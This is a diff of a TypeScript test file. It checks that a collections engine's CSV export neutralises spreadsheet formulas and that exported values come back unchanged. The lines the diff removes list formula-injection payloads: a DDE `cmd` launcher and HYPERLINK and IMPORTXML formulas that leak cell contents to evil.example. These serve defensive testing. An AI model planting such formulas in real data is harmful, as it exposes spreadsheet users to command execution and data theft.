@@ -3,6 +3,7 @@ import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
 import { createCollections } from '#server/collections/engine.ts'
 import type { Site } from '#server/tenancy/site.ts'
 import { type Caller, callerOf, outcome, shapeOf } from '#tests/support/collection-samples.ts'
+import { FORMULAS } from '#tests/support/formulas.ts'
 import { adminActor, createWorld, type World } from '#tests/support/world.ts'
 
 const engine = createCollections()
@@ -32,18 +33,9 @@ const rows = async (name: string) => {
   return order.map((id) => results[name]?.[id] as Record<string, unknown> & { id: number })
 }
 
-/** What spreadsheets run: each opening sign, in disguise, with commands, links and look-alikes. */
-const PAYLOADS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', ' =', '\t=', '"=', "'="].flatMap((sign) => [
-  `${sign}1+1`,
-  `${sign}cmd|' /C calc'!A0`,
-  `${sign}HYPERLINK("https://evil.example?x="&A1,"Click")`,
-  `${sign}IMPORTXML(CONCAT("https://evil.example/",A1),"//a")`,
-  `${sign}SUM(1,2)\r\n=2+2`,
-])
-
 test('sixty formulas are defused in the export and come back as they were', async () => {
-  expect(PAYLOADS.length).toBe(60)
-  await admin('POST', 'locations', { body: PAYLOADS.map((details) => ({ name: 'Place', details })) })
+  expect(FORMULAS.length).toBe(60)
+  await admin('POST', 'locations', { body: FORMULAS.map((details) => ({ name: 'Place', details })) })
   const before = await rows('locations')
   const csv = await exported('locations')
   const cells: Record<string, string>[] = parse(csv, { bom: true, columns: true })
